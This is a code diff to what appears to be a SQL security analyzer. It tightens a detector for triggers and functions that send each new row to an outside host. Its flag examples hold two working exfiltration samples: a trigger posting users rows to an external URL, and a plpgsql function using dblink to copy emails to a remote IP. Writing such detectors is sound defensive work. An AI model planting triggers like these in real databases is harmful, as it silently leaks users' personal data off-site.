@@ -1123,7 +1123,12 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       score: 8,
       // the skeleton the keywords are found in shows a function body as a literal: the statement's own words gate it
       keywords: ['trigger', 'function', 'procedure', 'rule', 'event'],
-      detect: (ctx) => { const r = rowsShippedByTrigger(ctx.source.slice(0, 65536).toLowerCase()); return r !== '' ? `every new row leaves through ${r}` : undefined; },
+      detect: (ctx) => {
+        // only a CREATE statement defines a trigger or routine (prose that says "function" or "rule" is not read)
+        if (!ctx.sql.stmts.some((st) => st.toks[0]?.v === 'create')) return undefined;
+        const r = rowsShippedByTrigger(ctx.source.slice(0, 65536).toLowerCase());
+        return r !== '' ? `every new row leaves through ${r}` : undefined;
+      },
       examples: {
         flag: ["CREATE TRIGGER trg_sync AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION http_post('https://sync-mirror.click/u', row_to_json(NEW)::text);",
           "CREATE OR REPLACE FUNCTION f() RETURNS trigger AS $$ BEGIN PERFORM dblink_exec('host=203.0.113.50 dbname=x user=u', 'INSERT INTO t VALUES (' || quote_literal(NEW.email) || ')'); RETURN NEW; END $$ LANGUAGE plpgsql;"],
